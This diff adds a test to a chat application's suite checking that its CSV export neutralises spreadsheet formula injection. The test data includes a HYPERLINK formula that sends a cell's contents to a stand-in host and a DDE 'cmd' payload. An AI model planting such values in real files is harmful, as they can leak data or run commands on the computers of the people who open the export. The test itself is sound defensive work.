@@ -165,3 +165,30 @@ def test_the_page_shows_withheld_posts_without_text_or_handle(chat, client):
     )
     assert "secret words" not in body and "@wendy" not in body
     assert "Nice one Wendy" in body
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(chat, pat, text):
+    pat.profile.display_name = text
+    pat.profile.save(update_fields=["display_name"])
+    chat.post("formula", 20, pat, text, reply_to="q1")
+    reader = list(csv.DictReader(io.StringIO(exports(chat.event)["csv"])))
+    row = next(r for r in reader if r["id"] == str(chat.posts["formula"].id))
+    pat.profile.refresh_from_db()
+    stored = {"text": chat.posts["formula"].text, "author_name": pat.profile.display_name}
+    for column, value in stored.items():
+        assert row[column] == "'" + value
+    # Ordinary text and numbers are untouched.
+    assert row["author_handle"] == "pat" and row["depth"].isdigit()
+    assert not any(r["text"].startswith("'") for r in reader if r["id"] != row["id"])
